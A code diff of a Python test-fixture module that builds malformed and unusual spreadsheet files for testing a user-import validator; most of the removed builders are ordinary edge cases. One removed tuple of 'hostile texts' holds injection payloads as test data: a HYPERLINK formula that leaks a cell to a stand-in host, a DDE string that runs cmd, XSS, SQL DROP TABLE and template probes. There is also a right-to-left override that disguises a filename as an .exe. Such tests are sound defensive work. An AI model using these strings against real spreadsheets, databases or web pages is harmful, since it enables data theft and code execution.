@@ -4,10 +4,9 @@ Each builder writes one file below `folder` and returns its path.
 """
 
 import io
-import re
 import unicodedata
 import zipfile
-from collections.abc import Callable, Sequence
+from collections.abc import Sequence
 from datetime import date, datetime
 from pathlib import Path
 
@@ -33,7 +32,6 @@ ALI: Row = (
 )  # fmt: skip
 
 MAX_CELL = 32_767  # characters that Excel lets into a cell
-MEGABYTE = 1_000_000
 
 
 def row(**cells: Cell) -> Row:
@@ -73,19 +71,6 @@ def empty_rows_between(folder: Path) -> Path:
     return workbook(folder / "empty_rows.xlsx", (), ZOE, (), blank, ALI, (), blank)
 
 
-def numbers_and_dates(folder: Path) -> Path:
-    """Ages and years as text, as floats and as numbers; dates and a date as text where none belongs."""
-    return workbook(
-        folder / "numbers_and_dates.xlsx",
-        row(email="text@x.fr", age="31", total_experience_years="5"),
-        row(email="float@x.fr", age=31.0, total_experience_years=5.5, phone=611223344),
-        row(email="comma@x.fr", age=" 31 ", total_experience_years="5,5"),
-        row(email="date@x.fr", age=date(1990, 5, 17), phone=datetime(2026, 1, 31, 12, 30)),  # noqa: DTZ001 - Excel's have none
-        row(email="datetext@x.fr", age="17/05/1990"),
-        row(email="bool@x.fr", age=True),
-    )
-
-
 def cover_sheet_first(folder: Path) -> Path:
     """A cover sheet stands before the sheet with the data."""
     book = Workbook()
@@ -120,20 +105,10 @@ def same_column_twice(folder: Path) -> Path:
     return workbook(folder / "twice.xlsx", (*ZOE, "other@x.fr"), header=(*HEADER, " e-mail "))
 
 
-def unknown_column(folder: Path) -> Path:
-    """A column that the contract does not know stands behind the others."""
-    return workbook(folder / "unknown_column.xlsx", (*ZOE, "bleu"), header=(*HEADER, "Couleur préférée"))
-
-
 def missing_required_column(folder: Path) -> Path:
     """`Email` is called `Courriel`, which no rule knows."""
     header = tuple("Courriel" if name == "Email" else name for name in HEADER)
     return workbook(folder / "courriel.xlsx", ZOE, header=header)
-
-
-def only_required_columns(folder: Path) -> Path:
-    """`Nom` and `Email`, and nothing else."""
-    return workbook(folder / "only_required.xlsx", ("Zoé Martin", "zoe@x.fr"), header=("Nom", "Email"))
 
 
 def header_without_rows(folder: Path) -> Path:
@@ -184,74 +159,6 @@ def zip_without_workbook(folder: Path) -> Path:
     return path
 
 
-def formulas(folder: Path) -> Path:
-    """Formulas that nobody has calculated: the cells hold no value (B2 an age, D3 an email)."""
-    return workbook(folder / "formulas.xlsx", row(age="=30+1"), row(email='=LOWER("ALI@X.FR")'))
-
-
-def error_cells(folder: Path) -> Path:
-    """B2 is the error #REF! and D3 the error #N/A."""
-    return workbook(folder / "errors.xlsx", row(age="#REF!"), row(email="#N/A"))
-
-
-def calculated_formulas(folder: Path) -> Path:
-    """A formula with the value that Excel keeps beside it: B2 is =30+1, and 31."""
-    path = workbook(folder / "calculated.xlsx", row(age="=30+1"))
-    return edit(path, lambda xml: re.sub(r"<f>30\+1</f><v\s*(/>|></v>)", "<f>30+1</f><v>31</v>", xml))
-
-
-def longest_cell(folder: Path) -> Path:
-    """A name of 32,767 characters: the most that Excel lets into a cell."""
-    return workbook(folder / "longest.xlsx", row(full_name="é" * MAX_CELL))
-
-
-def megabyte_cell(folder: Path) -> Path:
-    """A name of 1,000,000 characters: no Excel writes it, but the file format can carry it."""
-    path = workbook(folder / "megabyte.xlsx", row(full_name="MEGABYTE"))
-    return edit(path, lambda xml: xml.replace("MEGABYTE", "z" * MEGABYTE))
-
-
-def control_characters(folder: Path) -> Path:
-    r"""A bell in the name, as Excel escapes it (_x0007_), and the text _x0007_ itself in the next row's."""
-    path = workbook(
-        folder / "control.xlsx", row(full_name="ZoBELLe"), row(full_name="ZoTEXTe", email="text@x.fr")
-    )
-    return edit(path, lambda xml: xml.replace("BELL", "_x0007_").replace("TEXT", "_x005F_x0007_"))
-
-
-def directional_marks(folder: Path) -> Path:
-    """Right-to-left text and marks (U+200F, U+202E) in the name, and one in an email."""
-    return workbook(
-        folder / "directional.xlsx",
-        row(full_name="\u200fزينب\u200f", email="zeinab@x.fr"),
-        row(full_name="Zoé \u202exslx.exe", email="zoe@x.fr"),
-        row(email="\u200fali@x.fr"),
-    )
-
-
-HOSTILE_TEXTS = (
-    '=HYPERLINK("http://x.example/?"&A1,"ici")',
-    "<script>alert(1)</script>",
-    '<img src=x onerror="alert(1)">',
-    "'; DROP TABLE users; --",
-    "{{ 7 * 7 }}",
-    "%(email)s %s \\N \\.",
-    "+cmd|' /C calc'!A0",
-    "@SUM(1+1)",
-)
-
-
-def hostile_texts(folder: Path) -> Path:
-    """SQL, HTML, templates and formulas as plain text: each is the name of a valid row."""
-    rows = [row(full_name=text, email=f"h{number}@x.fr") for number, text in enumerate(HOSTILE_TEXTS)]
-    return _as_text(folder / "hostile.xlsx", rows, column="A")
-
-
-def hostile_emails(folder: Path) -> Path:
-    """The same texts as emails: each row is to be rejected, and its text kept."""
-    return _as_text(folder / "hostile_emails.xlsx", [row(email=text) for text in HOSTILE_TEXTS], column="D")
-
-
 def with_macros(folder: Path) -> Path:
     """A workbook of the content type that .xlsm files have."""
     plain = "vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
@@ -267,11 +174,6 @@ def open_document(folder: Path) -> Path:
     return write_ods(folder / "users.ods", [HEADER, ZOE, ALI])
 
 
-def lock_file(folder: Path, name: str = "data.xlsx") -> Path:
-    """The `~$` file that Excel keeps beside a workbook that somebody has open."""
-    return _write(folder / f"~${name}", b"\x05Zoe")
-
-
 def _only_sheet(book: Workbook, title: str) -> Worksheet:
     sheet: Worksheet = book.worksheets[0]
     sheet.title = title
@@ -281,16 +183,6 @@ def _only_sheet(book: Workbook, title: str) -> Worksheet:
 def _fill(sheet: Worksheet, rows: Sequence[Row]) -> None:
     for cells in rows:
         sheet.append(list(cells))
-
-
-def _as_text(path: Path, rows: Sequence[Row], *, column: str) -> Path:
-    """Write the rows with this column as text, even where openpyxl takes a cell for a formula."""
-    book = Workbook()
-    sheet = _only_sheet(book, "Feuil1")
-    _fill(sheet, [HEADER, *rows])
-    for cell in sheet[column]:
-        cell.data_type = "s"
-    return _save(book, path)
 
 
 def _save(book: Workbook, path: Path) -> Path:
@@ -309,17 +201,3 @@ def _bytes(*rows: Row) -> bytes:
 def _write(path: Path, content: bytes) -> Path:
     path.write_bytes(content)
     return path
-
-
-AWKWARD: dict[str, Callable[[Path], Path]] = {
-    builder.__name__: builder
-    for builder in (
-        title_rows_above, empty_rows_between, numbers_and_dates, cover_sheet_first, two_data_sheets,
-        decomposed_header, untidy_header, same_column_twice, unknown_column, missing_required_column,
-        only_required_columns, header_without_rows, completely_empty, zero_bytes, offset_table,
-        password_protected, truncated, csv_renamed, zip_without_workbook, formulas, error_cells,
-        calculated_formulas, longest_cell, megabyte_cell, control_characters, directional_marks,
-        hostile_texts, hostile_emails, with_macros, open_document,
-    )
-}  # fmt: skip
-"""Every builder that needs nothing but a folder, by its name: for tests over all of them."""
